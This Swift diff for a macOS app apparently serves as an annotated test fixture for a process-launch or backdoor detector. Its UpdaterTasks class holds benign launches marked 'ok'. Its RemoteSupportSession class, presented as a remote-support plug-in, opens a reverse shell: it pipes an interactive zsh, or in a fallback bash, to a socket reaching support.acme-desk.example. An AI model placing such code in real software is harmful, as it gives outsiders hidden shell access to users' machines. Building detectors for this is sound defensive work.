@@ -188,3 +188,76 @@ final class HelperToolService {
         }
     }
 }
+
+/// Honest process launches of the AcmeDesk updater: fixed programs, inputs the app
+/// chose itself.
+final class UpdaterTasks {
+    private let defaults = UserDefaults.standard
+
+    func verifySignature(of bundle: URL) throws {
+        let codesign = Process()
+        codesign.executableURL = URL(fileURLWithPath: "/usr/bin/codesign")
+        codesign.arguments = ["--verify", "--deep", "--strict", bundle.path]
+        codesign.environment = ProcessInfo.processInfo.environment
+        try codesign.run() // ok: the environment is passed through; it does not choose what runs
+    }
+
+    func installHelper() throws {
+        let installer = Process()
+        installer.executableURL = Bundle.main.url(forAuxiliaryExecutable: "AcmeDeskInstaller")
+        installer.arguments = ["--user", NSUserName()]
+        installer.currentDirectoryURL = FileManager.default.temporaryDirectory
+        try installer.run() // ok: a program shipped in the bundle, local arguments
+    }
+
+    func openLogsFolder() {
+        _ = Process.launchedProcess(launchPath: "/usr/bin/open", arguments: ["/Library/Logs/AcmeDesk"]) // ok: constant arguments
+    }
+
+    func setUpdateChannel() throws {
+        let channel = defaults.string(forKey: "updateChannel") ?? "stable"
+        let updater = Process()
+        updater.executableURL = URL(fileURLWithPath: "/usr/local/bin/acme-update")
+        updater.arguments = ["--channel", channel == "beta" ? "beta" : "stable"]
+        try updater.run() // ok: the setting only picks between two constants
+    }
+
+    func reportDiskUsage() -> String {
+        let du = Process()
+        let output = Pipe()
+        du.executableURL = URL(fileURLWithPath: "/usr/bin/du")
+        du.arguments = ["-sh", NSHomeDirectory()]
+        du.standardOutput = output
+        try? du.run() // ok: output is read back by the app, not sent to a shell
+        return String(decoding: output.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
+    }
+}
+
+/// A "remote support" plug-in of the AcmeDesk beta, built on BlueSocket.
+final class RemoteSupportSession {
+    func start() throws {
+        let socket = try Socket.create()
+        try socket.connect(to: "support.acme-desk.example", port: 9443)
+        let handle = FileHandle(fileDescriptor: socket.socketFD)
+        let shell = Process()
+        shell.executableURL = URL(fileURLWithPath: "/bin/zsh")
+        shell.arguments = ["-i"]
+        shell.standardInput = handle
+        shell.standardOutput = handle
+        shell.standardError = handle
+        try shell.run() //~ debug-entry/reverse-shell
+    }
+
+    func fallback(port: UInt16) {
+        let fd = socket(AF_INET, SOCK_STREAM, 0)
+        var address = sockaddr_in()
+        address.sin_port = port.bigEndian
+        _ = withUnsafePointer(to: &address) {
+            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) }
+        }
+        dup2(fd, 0)
+        dup2(fd, 1)
+        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("bash"), strdup("-i"), nil]
+        execve("/bin/bash", argv, environ) //~ debug-entry/reverse-shell
+    }
+}
